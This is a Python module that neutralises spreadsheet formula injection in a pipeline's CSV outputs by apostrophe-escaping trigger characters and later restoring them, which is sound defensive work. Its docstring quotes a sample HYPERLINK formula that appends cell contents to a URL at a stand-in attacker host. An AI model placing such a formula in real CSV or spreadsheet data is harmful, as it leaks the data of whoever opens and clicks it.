"""Formula cells in CSV outputs: neutralised for spreadsheets, restored for the next hop.

A cell such as ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` is text to the lake but
a live formula to Excel, LibreOffice or Google Sheets when someone opens a CSV of a zone
(OWASP "CSV injection"). Every CSV the pipeline writes is meant to be opened that way, so
a value that a spreadsheet would evaluate - one starting with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return, and not a plain number such as ``-5`` - is written with a
leading apostrophe, which makes the spreadsheet show it as text.

The escape is exact, so no data is lost on the way to Parquet: a value that already
starts with apostrophes followed by a trigger gets one more, and the hop that reads a
pipeline-written CSV removes exactly one apostrophe from every escaped value. So
``=1+1`` is ``'=1+1`` in staged and ``=1+1`` again in curated, and ``'=x`` survives as
``'=x``.

Only Arrow kernels with options are used, never Python scalars as arguments: converting one
makes pyarrow import pandas, which the Lambda's cold start cannot afford.
"""

from __future__ import annotations

from collections.abc import Callable

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

TRIGGERS = r"=+\-@\t\r"
NEEDS_ESCAPE = rf"^'*[{TRIGGERS}]"
ESCAPED = rf"^'+[{TRIGGERS}]"
NUMBER = r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?"
FIRST_BYTES = np.frombuffer(b"=+-@\t\r'", dtype=np.uint8)


def _may_start_with_trigger(column: pa.Array) -> bool:
    """A cheap first look at every value's first byte (no regex, no copy): most columns have none."""
    offsets_buffer, data_buffer = column.buffers()[1:3]
    if data_buffer is None or len(column) == 0:
        return False
    width = np.int64 if pa.types.is_large_string(column.type) else np.int32
    offsets = np.frombuffer(offsets_buffer, dtype=width)[column.offset : column.offset + len(column) + 1]
    starts = offsets[:-1][offsets[1:] > offsets[:-1]]
    data = np.frombuffer(data_buffer, dtype=np.uint8)
    return bool(np.isin(data[starts], FIRST_BYTES).any())


def _mask(column: pa.Array, pattern: str) -> pa.Array:
    """Null where the value is null: `if_else` then keeps the null (no Python scalars: see below)."""
    return pc.match_substring_regex(column, pattern)


def _map_text_columns(batch: pa.RecordBatch, convert: Callable[[pa.Array], pa.Array]) -> pa.RecordBatch:
    columns = list(batch.columns)
    changed = False
    for index, column in enumerate(columns):
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            converted = convert(column)
            if converted is not column:
                columns[index], changed = converted, True
    return pa.RecordBatch.from_arrays(columns, schema=batch.schema) if changed else batch


def _neutralise_column(column: pa.Array) -> pa.Array:
    if not _may_start_with_trigger(column):
        return column
    candidates = _mask(column, NEEDS_ESCAPE)
    if not pc.any(candidates).as_py():
        return column
    escape = pc.and_(candidates, pc.invert(_mask(column, f"^{NUMBER}$")))
    return pc.if_else(escape, pc.replace_substring_regex(column, "^", "'", max_replacements=1), column)


def _restore_column(column: pa.Array) -> pa.Array:
    if not _may_start_with_trigger(column):
        return column
    candidates = _mask(column, ESCAPED)
    if not pc.any(candidates).as_py():
        return column
    escaped = pc.and_(candidates, pc.invert(_mask(column, f"^'{NUMBER}$")))
    return pc.if_else(escaped, pc.utf8_slice_codeunits(column, 1), column)


def neutralise_formulas(batch: pa.RecordBatch) -> pa.RecordBatch:
    """Prefix an apostrophe to every text value a spreadsheet would run as a formula."""
    return _map_text_columns(batch, _neutralise_column)


def restore_formulas(batch: pa.RecordBatch) -> pa.RecordBatch:
    """Undo :func:`neutralise_formulas` (for the hop that reads a pipeline-written CSV)."""
    return _map_text_columns(batch, _restore_column)
